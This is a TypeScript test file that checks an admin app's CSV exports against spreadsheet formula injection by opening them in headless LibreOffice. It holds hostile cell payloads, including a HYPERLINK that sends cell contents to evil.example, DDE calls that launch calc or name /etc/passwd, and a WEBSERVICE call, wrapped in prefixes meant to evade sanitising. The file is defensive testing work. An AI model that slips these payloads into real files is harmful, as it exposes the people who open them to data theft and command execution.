import { spawnSync } from "node:child_process";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { eq } from "drizzle-orm";
import { expect, test } from "vitest";
import { devices, events, insightCounts, users } from "@/db/schema";
import { exportEvents, exportQuery } from "@/lib/admin/export-events";
import { csvLine } from "@/lib/core/csv";
import { newId } from "@/lib/core/ids";
import { figureAsCsv } from "@/lib/insights/figure-as-csv";
import { readInsights } from "@/lib/insights/read-insights";
import { rollUp } from "@/lib/insights/roll-up";
import { figureNames } from "@/lib/insights/schema";
import { holding, userOf } from "@/tests/support/administrators";
import { openTestWorld } from "@/tests/support/context";
import { makeUser, trust } from "@/tests/support/sessions";
import { atEnd } from "@/tests/support/stop-everything";
import { makeTemporaryFolder } from "@/tests/support/temporary-folder";

const hasLibreOffice = spawnSync("soffice", ["--version"]).status === 0;
if (!hasLibreOffice) console.warn("\n  ! The tables are not opened in LibreOffice: SKIPPED. Install libreoffice-calc for it.\n");

const FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", '=HYPERLINK("https://evil.example/?"&A1;"here")', "=cmd|'/C calc'!A0", '=DDE("soffice";"/etc/passwd";"x")', '=WEBSERVICE("https://evil.example")', "\uFF1D1+1", "\uFF20SUM(1)"];
const BEFORE = ["", " ", "\t", "\r", "\n", "\uFEFF", "\u00A0", "\u200B", '"', '""', "'", ";", "x;", "x\t", "x\n", "x\r\n", "x|", "x,", 'x;"', 'x";', 'x";""', "x; ", "x;\t", "x;\uFEFF"];
const HOSTILE = BEFORE.flatMap((before) => FORMULAS.flatMap((formula) => [before + formula, `${before}${formula};y`]));

/** What parts cells: that of RFC 4180; that of Excel where a comma is in numbers; what else one can choose; and what LibreOffice's dialog has ticked. As numbers, which its filter takes. */
const SEPARATORS = ["44", "59", "9", "124", "44/59/9"];
const LANGUAGES = { en: "1033", de: "1031" };

/** What LibreOffice makes formulas of in these tables, for each separator and language: `table separator language formula`. */
async function formulasIn(tables: ReadonlyMap<string, string>): Promise<string[]> {
  const { folder, remove } = await makeTemporaryFolder();
  atEnd(remove);
  const file = (name: string, ending: string) => join(folder, `${name}.${ending}`);
  const formulas: string[] = [];
  for (const [name, csv] of tables) writeFileSync(file(name, "csv"), csv);
  for (const separator of SEPARATORS) {
    for (const [language, number] of Object.entries(LANGUAGES)) {
      // In UTF-8, quoted by ", from the first line on, each column as it is guessed.
      const filter = `CSV:${separator},34,76,1,,${number}`;
      const done = spawnSync("soffice", [`-env:UserInstallation=file://${folder}/profile`, "--headless", "--convert-to", "fods", `--infilter=${filter}`, "--outdir", folder, ...[...tables.keys()].map((name) => file(name, "csv"))], { encoding: "utf8", timeout: 300_000, env: { PATH: process.env.PATH, NODE_ENV: "test", HOME: folder } });
      expect(done.status, done.stderr).toBe(0);
      for (const name of tables.keys()) {
        const sheet = readFileSync(file(name, "fods"), "utf8");
        expect(sheet, name).toContain("<text:p>");
        formulas.push(...[...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => `${name} ${separator} ${language} ${formula}`));
        rmSync(file(name, "fods"));
      }
    }
  }
  return formulas;
}

test.skipIf(!hasLibreOffice)("LibreOffice finds formulas in a table that nobody made harmless", { timeout: 600_000 }, async () => {
  const raw = HOSTILE.map((cell, index) => `"${index}","${cell.replaceAll('"', '""')}"\r\n`).join("");
  const formulas = await formulasIn(new Map([["raw", raw]]));
  for (const separator of SEPARATORS) expect(formulas.filter((formula) => formula.startsWith(`raw ${separator} `)).length, separator).toBeGreaterThan(9);
});

test.skipIf(!hasLibreOffice)("no cell of our tables is a formula to LibreOffice, whatever parts its cells", { timeout: 1_800_000 }, async () => {
  const { context } = await openTestWorld();
  await trust(context);
  const reader = (await userOf(context, "ADMIN")).caller;
  for (const name of HOSTILE) {
    const userId = await makeUser(context);
    const deviceId = newId();
    await context.db.update(users).set({ name, email: `${name}@example.org` }).where(eq(users.id, userId));
    await context.db.insert(devices).values({ id: deviceId, userId, browserId: newId(), givenName: name, derivedName: name, browser: name, os: name, kind: "desktop", userAgent: name });
    await context.db.insert(events).values({ id: newId(), userId, deviceId, type: "sign_in.failed", actor: "user", country: "DE", city: name, detail: { what: name, reason: name } });
  }
  await rollUp(context);
  const [day] = await context.db.select({ day: insightCounts.day }).from(insightCounts).limit(1);
  const names = ["browsers", "systems", "apps", "failures", "refused_pictures"];
  await context.db.insert(insightCounts).values(names.flatMap((figure) => HOSTILE.map((key) => ({ figure, key, day: day?.day ?? "", count: 1 })))).onConflictDoNothing();

  const insights = await readInsights(await holding(reader, "insights.read"), { days: 7 });
  const tables = new Map<string, string>(figureNames.map((figure) => [figure, figureAsCsv(insights, figure)]));
  let audit = "";
  for await (const piece of exportEvents(await holding(reader, "events.read"), exportQuery.parse({ format: "csv" }))) audit += piece;
  tables.set("audit", audit);
  tables.set("cells", HOSTILE.map((cell, index) => csvLine([cell, String(index), cell])).join(""));
  for (const name of ["browsers", "apps", "failing", "audit"]) expect(tables.get(name), name).toContain("HYPERLINK");
  for (const [name, csv] of tables) if (csv.trim() === "") tables.delete(name);
  expect(await formulasIn(tables)).toEqual([]);
});
